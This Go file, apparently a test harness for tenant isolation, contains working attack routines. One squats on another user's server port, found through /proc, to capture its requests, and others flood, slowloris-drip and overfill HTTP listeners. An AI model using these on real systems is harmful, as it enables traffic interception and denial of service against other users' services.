package main

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// lateServer is a server of the victim's that has been told its port and does not listen yet: everybody can read that.
var lateServer = regexp.MustCompile(`late-vllm\x00.*--port\x00(\d+)\x00`)

// squat sits on the ports that a server of the victim's is about to listen on, as its first two starts, answers as it would, and
// keeps what it is sent.
func squat(a attack, s *spoils) {
	done := told()
	var mu sync.Mutex
	handler := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var all bytes.Buffer
		_ = r.Write(&all)
		mu.Lock()
		defer mu.Unlock()
		s.Tried["asked"]++
		s.got("he was sent %.300q", all.Bytes())
		fmt.Fprint(w, `{"data":[{"id":"late"}]}`)
	})
	for {
		select {
		case <-done:
			mu.Lock() // for good: nothing is written any more
			return
		case <-time.After(100 * time.Millisecond): // the server listens after seconds
		}
		for _, pid := range pids() {
			args, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
			m := lateServer.FindSubmatch(args)
			if m == nil {
				continue
			}
			port, _ := strconv.Atoi(string(m[1]))
			if len(s.Ports) == 2 || slices.Contains(s.Ports, port) {
				continue
			}
			l, err := net.Listen("tcp", net.JoinHostPort("127.0.0.1", strconv.Itoa(port)))
			if err != nil {
				continue
			}
			s.Ports = append(s.Ports, port)
			go func() { _ = http.Serve(l, handler) }()
		}
	}
}

// reach connects from elsewhere to every port of the victim's at every address of his node.
func reach(a attack, s *spoils) {
	for _, port := range a.Ports {
		for _, at := range withPort(a.Hosts, strconv.Itoa(port)) {
			s.Tried["connected"]++
			c, err := net.DialTimeout("tcp", at, 2*time.Second)
			if err != nil {
				continue
			}
			s.Tried["reached"]++
			s.Ports = append(s.Ports, port)
			_ = c.Close()
		}
	}
}

// flood opens connections to each listener that say nothing, and keeps them until it is told to end.
func flood(a attack, s *spoils) {
	done := told()
	var open []net.Conn
	for _, l := range a.Listeners {
		for range a.Flood {
			c, err := net.DialTimeout("tcp", l.Address, 5*time.Second)
			if err != nil {
				s.Tried["refused"]++
				continue
			}
			s.Tried["opened"]++
			open = append(open, c)
		}
	}
	fmt.Fprintln(os.Stderr, "ready")
	<-done
	var left atomic.Int64
	var all sync.WaitGroup
	for _, c := range open {
		all.Go(func() {
			_ = c.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
			if _, err := c.Read(make([]byte, 1)); os.IsTimeout(err) {
				left.Add(1)
			}
		})
	}
	all.Wait()
	s.Tried["left"] = int(left.Load())
}

// drip sends a request one byte at a time over many connections to each listener, and begins anew where it is cut off.
func drip(a attack, s *spoils) {
	done := told()
	request := "POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Padding: " + strings.Repeat("x", 1<<20)
	var opened, cut, dripped atomic.Int64
	var all sync.WaitGroup
	for _, l := range a.Listeners {
		for range a.Flood {
			all.Go(func() {
				for {
					c, err := net.DialTimeout("tcp", l.Address, 5*time.Second)
					if err != nil {
						time.Sleep(100 * time.Millisecond)
					} else {
						opened.Add(1)
					}
					for i := 0; err == nil && i < len(request); i++ {
						select {
						case <-done:
							_ = c.Close()
							return
						case <-time.After(200 * time.Millisecond):
						}
						if _, err = io.WriteString(c, request[i:i+1]); err == nil {
							dripped.Add(1)
						} else {
							cut.Add(1)
							_ = c.Close()
						}
					}
					select {
					case <-done:
						return
					default:
					}
				}
			})
		}
	}
	fmt.Fprintln(os.Stderr, "ready")
	all.Wait()
	s.Tried["opened"], s.Tried["cut"], s.Tried["bytes"] = int(opened.Load()), int(cut.Load()), int(dripped.Load())
}

// pour sends each listener a request without end, and says how much of it was taken at most.
func pour(a attack, s *spoils) {
	chunk := bytes.Repeat([]byte("x"), 1<<20)
	fmt.Fprintln(os.Stderr, "ready")
	for _, l := range a.Listeners {
		for _, head := range []string{
			fmt.Sprintf("POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n", a.Body),
			"POST /api/v1/query HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n7fffffffffff\r\n",
			"GET / HTTP/1.1\r\nHost: x\r\nX-Padding: ", "GET /", "",
		} {
			c, err := net.DialTimeout("tcp", l.Address, 5*time.Second)
			if err != nil {
				s.Tried["refused"]++
				continue
			}
			_ = c.SetDeadline(time.Now().Add(20 * time.Second))
			n, err := io.WriteString(c, head)
			sent := int64(n)
			for err == nil && sent < a.Body {
				n, err = c.Write(chunk)
				sent += int64(n)
			}
			_ = c.Close()
			s.Tried["poured"]++
			s.Tried["most"] = max(s.Tried["most"], int(sent))
			if sent > 64<<20 {
				s.got("%s (%s of %s) took %d MiB of a request of a stranger that begins with %.20q", l.Address, l.What, l.Owner, sent>>20, head)
			}
		}
	}
}
